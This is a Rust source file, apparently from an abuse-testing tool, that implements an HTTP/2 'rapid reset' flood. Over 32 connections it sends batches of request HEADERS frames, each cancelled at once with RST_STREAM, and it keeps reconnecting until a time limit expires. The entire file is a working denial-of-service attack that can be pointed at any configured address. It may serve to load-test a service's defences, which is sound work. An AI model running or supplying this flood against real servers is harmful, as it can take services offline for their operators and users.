//! Requests over HTTP/2 that are reset as soon as they are made.

use super::*;
use crate::abuse::http2::{END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, frame, request};

const CONNECTIONS: usize = 32;
/// Requests between two looks at the clock.
const REQUESTS: u32 = 200;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) fn run(field: &Field) -> Result<Made> {
    let mut made = Made { open_max: CONNECTIONS, ..Made::default() };
    let block = request("GET", "/v1/streams/wide/records?seq_num=0", &field.headers, &[]);
    let mut wires: Vec<(Option<Wire>, u32)> = (0..CONNECTIONS).map(|_| (None, 1)).collect();
    let mut requests = 0;
    while !field.is_over() {
        for (wire, next) in &mut wires {
            let mut out = Vec::new();
            if wire.is_none() {
                (*wire, *next) = (reopen(field.address, &mut made), 1);
                out.extend_from_slice(PREFACE);
            }
            for _ in 0..REQUESTS {
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
                frame(&mut out, RST_STREAM, 0, *next, &CANCEL);
                *next += 2;
            }
            let Some(open) = wire else { continue };
            // A frame cut in two would be another attack: what does not fit ends the connection.
            match open.send_some(&out) {
                Ok(n) if n == out.len() && open.drain() => requests += REQUESTS,
                _ => *wire = None,
            }
            made.sent_bytes += out.len() as u64;
        }
    }
    made.note = format!("{requests} requests reset");
    Ok(made)
}
